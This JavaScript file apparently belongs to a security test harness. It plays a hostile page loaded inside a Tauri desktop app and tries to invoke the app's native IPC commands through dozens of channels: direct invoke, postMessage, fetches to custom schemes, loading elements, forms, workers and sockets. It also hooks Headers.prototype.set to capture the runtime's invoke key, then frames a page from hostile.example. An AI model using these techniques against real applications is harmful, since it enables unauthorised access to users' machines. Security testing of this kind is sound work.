// A page of Yandex that somebody broke into tries everything it could say to the app, by every way there is.
// COMMANDS and VALUES are put in by the journey. What comes of it goes to the server as paths:
// /report/PLACE/WAY/OUTCOME/NUMBER/COMMAND, with the number of commands and the first of them.

const commands = COMMANDS;
const values = VALUES;
const SCHEMES = ["ipc://localhost/", "http://ipc.localhost/", "https://ipc.localhost/", "tauri://localhost/"];
const MORE_SCHEMES = ["http://tauri.localhost/", "asset://localhost/", "reveal://localhost/", "http://reveal.localhost/"];

const place = window === top ? "page" : "frame";
const report = (...words) => fetch(`/report/${words.map(encodeURIComponent).join("/")}`, { method: "POST" });
const patience = () => new Promise((_, give) => setTimeout(give, 700, new Error("no answer")));

/** What a refusal says. Any other complaint would mean that a command was reached and did not like its values. */
const REFUSAL = /not allowed|no answer|load failed|network|access control|not found|cancelled|is not (an object|a function)|can only be sent over|blocked a frame/i;

async function outcome(act) {
  try {
    await Promise.race([act(), patience()]);
    return "answered";
  } catch (reason) {
    const said = String(reason?.message ?? reason);
    return REFUSAL.test(said) ? "refused" : `stumbled: ${said.slice(0, 200)}`;
  }
}

const internals = window.__TAURI_INTERNALS__;

/** The runtime's own script sends a key along, and a page can look at it as it goes by. */
let key = "guess";
const set = Headers.prototype.set;
Headers.prototype.set = function (name, value) {
  if (/invoke-key/i.test(name)) key = value;
  return set.call(this, name, value);
};
internals?.invoke("load").catch(() => {});

const handlers = (view) => view.webkit?.messageHandlers?.ipc ?? view.ipc;

const message = (command, take, give) => {
  const callback = internals ? internals.transformCallback(take, true) : 1;
  const error = internals ? internals.transformCallback(give, true) : 2;
  return { cmd: command, callback, error, payload: values, options: {}, __TAURI_INVOKE_KEY__: key };
};

/** A message gets its answer by a callback, if it gets one. */
const bySending = (view) => (command) =>
  new Promise((take, give) => handlers(view()).postMessage(JSON.stringify(message(command, take, give))));

/** Windows talk to each other; whoever answers says something else than was said to it. */
const byPosting = (view) => (command) =>
  new Promise((take, give) => {
    const said = message(command, take, give);
    addEventListener("message", ({ data }) => data?.cmd === undefined && take(data));
    view().postMessage(said, "*");
  });

const kind = { "Content-Type": "application/json" };
const headers = { ...kind, "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": key };
const address = (scheme, command) => scheme + encodeURIComponent(command);
const body = JSON.stringify(values);

const byFetching = (scheme) => async (command) => {
  const answer = await fetch(address(scheme, command), { method: "POST", headers, body });
  if (!answer.ok) throw new Error(await answer.text());
};

/** Without a preflight, and blind to the answer. */
const byBlindFetch = (scheme) => (command) => fetch(address(scheme, command), { method: "POST", mode: "no-cors", body });

const byRequest = (scheme) => (command) =>
  new Promise((take, give) => {
    const request = new XMLHttpRequest();
    request.onload = () => (request.status < 300 ? take() : give(new Error(request.responseText)));
    request.onerror = () => give(new Error("network"));
    request.open("POST", address(scheme, command));
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.send(body);
  });

/** An element that loads: pictures, scripts, styles, frames. */
const byElement = (tag, name, more = {}) => (command) =>
  new Promise((take, give) => {
    const element = Object.assign(document.createElement(tag), more);
    const done = (act, ...words) => (element.remove(), act(...words));
    element.onload = () => done(take);
    element.onerror = () => done(give, new Error("load failed"));
    element[name] = address("ipc://localhost/", command);
    document.body.append(element);
    setTimeout(() => element.remove(), 1000);
  });

/** A frame shows an empty page of its own at first; only another one would be an answer. */
const inFrame = (start) => (command) =>
  new Promise((take) => {
    const frame = document.createElement("iframe");
    frame.name = `frame-${few.indexOf(command)}`;
    document.body.append(frame);
    start(frame, command);
    frame.onload = () => {
      const shown = () => frame.contentWindow.location.href;
      try {
        if (shown() !== "about:blank") take();
      } catch {
        take();
      }
    };
    setTimeout(() => frame.remove(), 1000);
  });

const bySubmitting = inFrame((frame, command) => {
  const form = document.createElement("form");
  const field = Object.assign(document.createElement("input"), { name: "payload", value: body });
  Object.assign(form, { method: "post", target: frame.name, action: address("ipc://localhost/", command) });
  form.append(field);
  document.body.append(form);
  form.submit();
  form.remove();
});

const byWorker = (command) =>
  new Promise((take, give) => {
    const script = `fetch(${JSON.stringify(address("ipc://localhost/", command))}, { method: "POST", mode: "no-cors" })
      .then(() => postMessage("answered"), () => postMessage("refused"))`;
    const worker = new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
    worker.onerror = () => give(new Error("load failed"));
    worker.onmessage = ({ data }) => (worker.terminate(), data === "answered" ? take() : give(new Error("load failed")));
  });

/** Another page in the same window has internals of its own. */
const inner = document.body.appendChild(document.createElement("iframe"));
const innerWindow = () => inner.contentWindow;

/** Ways that take a whole document for every try: the app's own commands, and one of each plugin. */
const documents = ["object", "embed", "sound", "frame", "appFrame", "revealFrame", "form", "worker"];
const plugin = (command) => command.split("|")[0];
const few = commands.filter((command, number) => plugin(command) !== plugin(commands[number - 1] ?? ""));
const tried = (way) => (documents.includes(way) ? few : commands);

const ways = {
  invoke: (command) => internals.invoke(command, values),
  inner: (command) => innerWindow().__TAURI_INTERNALS__.invoke(command, values),
  message: bySending(() => window),
  innerMessage: bySending(innerWindow),
  topMessage: bySending(() => top),
  post: byPosting(() => window),
  postTop: byPosting(() => top),
  postInner: byPosting(innerWindow),
  picture: byElement("img", "src"),
  script: byElement("script", "src"),
  style: byElement("link", "href", { rel: "stylesheet" }),
  preload: byElement("link", "href", { rel: "preload", as: "fetch" }),
  object: byElement("object", "data"),
  embed: byElement("embed", "src"),
  sound: byElement("audio", "src"),
  frame: inFrame((frame, command) => (frame.src = address("ipc://localhost/", command))),
  appFrame: inFrame((frame, command) => (frame.src = address("tauri://localhost/", command))),
  revealFrame: inFrame((frame, command) => (frame.src = address("reveal://localhost/", command))),
  form: bySubmitting,
  popup: async (command) => {
    if (!window.open(address("ipc://localhost/", command))) throw new Error("not allowed");
  },
  beacon: async (command) => {
    // It says only whether it was taken to be sent; what counts is that nothing comes of it.
    navigator.sendBeacon(address("ipc://localhost/", command), body);
    throw new Error("no answer");
  },
  events: (command) =>
    new Promise((take, give) => {
      const source = new EventSource(address("ipc://localhost/", command));
      source.onopen = take;
      source.onerror = () => (source.close(), give(new Error("network")));
    }),
  socket: (command) =>
    new Promise((take, give) => {
      const socket = new WebSocket(address("wss://ipc.localhost/", command));
      socket.onopen = take;
      socket.onerror = () => give(new Error("network"));
    }),
  worker: byWorker,
};
for (const scheme of [...SCHEMES, ...MORE_SCHEMES]) {
  const name = scheme.replaceAll(/\W+/g, "-");
  ways[`fetch-${name}`] = byFetching(scheme);
  ways[`blind-${name}`] = byBlindFetch(scheme);
  ways[`request-${name}`] = byRequest(scheme);
}

async function attempt(way, act) {
  const outcomes = await Promise.all(tried(way).map((command) => outcome(async () => act(command))));

  for (const said of new Set(outcomes)) {
    const those = tried(way).filter((_, number) => outcomes[number] === said);
    await report(place, way, said, those.length, those[0]);
  }
}

(async () => {
  const all = Object.entries(ways);
  let done = 0;
  const chain = async (part) => {
    for (const [way, act] of all.filter((_, number) => number % 4 === part)) {
      await attempt(way, act);
      done += 1;
      await report(place, "done", done);
    }
  };
  await Promise.all([0, 1, 2, 3].map(chain));
  await report(place, "key", key === "guess" ? "unknown" : "known");

  // Somebody else's page in a frame of this one tries the same.
  if (place === "page") {
    const foreign = document.createElement("iframe");
    foreign.src = "https://hostile.example/attack/given";
    document.body.append(foreign);
  }
})();
